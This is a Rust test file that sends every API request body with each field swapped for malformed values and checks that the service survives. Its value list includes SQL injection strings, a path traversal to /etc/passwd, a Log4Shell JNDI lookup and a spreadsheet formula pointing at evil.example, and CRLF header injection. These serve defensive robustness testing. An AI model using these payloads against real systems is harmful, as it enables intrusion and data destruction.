//! Every field of every body in turn, with every kind of value that does not belong there.

use serde_json::Value;

use super::surface::{Surface, fresh};

/// What takes the place of a field's value, as it is written in JSON. `LETTERS` stands for a thousand of them.
pub const VALUES: &[(&str, &str)] = &[
    ("null", "null"),
    ("true", "true"),
    ("minus one", "-1"),
    ("minus nought", "-0"),
    ("minus nought as a decimal", "-0.0"),
    ("a fraction", "1.5"),
    ("the greatest i64", "9223372036854775807"),
    ("one more than the greatest i64", "9223372036854775808"),
    ("one less than the least i64", "-9223372036854775809"),
    ("one more than the greatest u64", "18446744073709551616"),
    ("one more than the greatest i32", "2147483648"),
    ("nearly the greatest double", "1e308"),
    ("nearly the least double", "5e-324"),
    ("more than the greatest double", "1e400"),
    ("a very small exponent", "1e-99999999999"),
    ("four hundred digits", "DIGITS"),
    ("NaN", "NaN"),
    ("Infinity", "-Infinity"),
    ("hexadecimal", "0x1F"),
    ("a leading nought", "017"),
    ("an empty text", r#""""#),
    ("a blank text", r#""  \t\n ""#),
    ("NUL in a text", r#""a\u0000b""#),
    ("a raw control character", "\"a\u{1}b\""),
    (
        "escaped control characters",
        r#""\u0001\u001b[31m\u007f\u0085""#,
    ),
    ("half a surrogate pair", r#""\ud800""#),
    ("a surrogate pair the wrong way round", r#""\udc00\ud800""#),
    ("an escape that does not exist", r#""\x41""#),
    ("a quote for SQL", r#""x' OR '1'='1""#),
    ("a statement for SQL", r#""x'; DROP TABLE responses; --""#),
    (
        "a dollar quote for SQL",
        r#""$$; DROP TABLE responses; $$""#,
    ),
    (
        "an identifier for SQL",
        r#""x\"; DROP TABLE responses; --""#,
    ),
    ("a call for SQL", r#""' || pg_sleep(20) || '""#),
    ("a pattern for LIKE", r#""%_%\\""#),
    ("a formula", r#""=HYPERLINK(\"http://evil.example\")""#),
    ("a path", r#""../../../../etc/passwd""#),
    (
        "a template",
        r#""${jndi:ldap://evil.example/x} {{7*7}} %s%n""#,
    ),
    ("a header", r#""x\r\nSet-Cookie: a=b""#),
    ("right to left", "\"\u{202e}\u{5d0}\u{5d1}\u{202c}\""),
    ("zero-width characters", "\"a\u{200b}\u{200d}\u{feff}b\""),
    ("emoji", "\"👩‍👩‍👧‍👦🏳️‍🌈𝕏\""),
    (
        "combining characters",
        "\"e\u{301}\u{301}\u{301}\u{301}\u{301}\"",
    ),
    ("no characters", "\"\u{ffff}\u{fdd0}\u{10ffff}\""),
    (
        "letters that grow in lower case",
        "\"İİİİİİİİİİİİİİİİİİİİİİİİİİİİ@İ.example\"",
    ),
    ("a thousand letters", r#""LETTERS""#),
    ("an odd e-mail", r#""\"a b\"@[127.0.0.1]""#),
    ("a day that does not exist", r#""2027-02-30T00:00:00Z""#),
    (
        "the first year that dates can hold",
        r#""-262143-01-01T00:00:00Z""#,
    ),
    (
        "the last year that dates can hold",
        r#""+262142-12-31T23:59:59Z""#,
    ),
    ("a leap second", r#""2036-12-31T23:59:60.999999999Z""#),
    ("a date without a zone", r#""2027-02-04T00:00:00""#),
    ("an empty list", "[]"),
    ("a list of a list", "[[]]"),
    ("a list of nothing", "[null]"),
    ("an empty object", "{}"),
    ("an object without a name", r#"{"": ""}"#),
    ("an object of objects", r#"{"a": {"b": {"c": {}}}}"#),
];

/// The pointers of all values in a body; of lists only the first item, of texts only the first language.
fn pointers(value: &Value, base: &str, found: &mut Vec<String>) {
    match value {
        Value::Object(fields) => {
            for (name, inner) in fields {
                if name == "ko" && fields.contains_key("en") {
                    continue;
                }
                let pointer = format!("{base}/{name}");
                found.push(pointer.clone());
                pointers(inner, &pointer, found);
            }
        }
        Value::Array(items) => {
            if let Some(first) = items.first() {
                let pointer = format!("{base}/0");
                found.push(pointer.clone());
                pointers(first, &pointer, found);
            }
        }
        _ => {}
    }
}

/// The body with this text in the place of a value.
fn with(good: &Value, pointer: &str, raw: &str) -> String {
    const MARK: &str = "the value to replace";
    let raw = raw.replace("LETTERS", &"x".repeat(1000));
    let raw = raw.replace("DIGITS", &"9".repeat(400));
    let mut body = fresh(good);
    *body.pointer_mut(pointer).unwrap() = Value::String(MARK.to_owned());
    body.to_string().replace(&format!("\"{MARK}\""), &raw)
}

#[tokio::test]
async fn no_value_of_any_field_breaks_anything() {
    let surface = Surface::start().await;
    let mut sent = 0;
    for (name, raw) in VALUES {
        let mut calls = Vec::new();
        for (operation, good) in surface.with_body() {
            let mut all = Vec::new();
            pointers(good, "", &mut all);
            for pointer in all {
                // JSON is YAML, nearly; so the other reader gets the same.
                let kind = match operation.id == "update_form_draft" {
                    true => "application/yaml",
                    false => "application/json",
                };
                let body = with(good, &pointer, raw);
                let call = surface.call(operation).await.raw(kind, body);
                calls.push((format!("{} {pointer}", operation.id), call));
            }
        }
        sent += surface.survive(name, calls).await;
    }
    assert!(sent >= 1000, "{sent}");
}

#[tokio::test]
async fn no_field_that_is_missing_or_unknown_or_doubled_breaks_anything() {
    let surface = Surface::start().await;
    let mut calls = Vec::new();
    for (operation, good) in surface.with_body() {
        let mut all = vec![String::new()];
        pointers(good, "", &mut all);
        for pointer in all {
            let Some(Value::Object(fields)) = good.pointer(&pointer) else {
                continue;
            };
            for (name, value) in fields {
                let mut missing = fresh(good);
                let place = missing.pointer_mut(&pointer).unwrap();
                place.as_object_mut().unwrap().remove(name);
                let doubled = format!("{{\"{name}\":{value},\"{name}\":{value}}}");
                let doubled = match pointer.is_empty() {
                    true => doubled,
                    false => with(good, &pointer, &doubled),
                };
                let mut unknown = fresh(good);
                unknown.pointer_mut(&pointer).unwrap()["unknown"] = Value::Null;
                for body in [missing.to_string(), doubled, unknown.to_string()] {
                    let call = surface.call(operation).await.raw("application/json", body);
                    calls.push((format!("{} {pointer}/{name}", operation.id), call));
                }
            }
        }
    }
    surface
        .survive("missing, unknown and doubled fields", calls)
        .await;
}
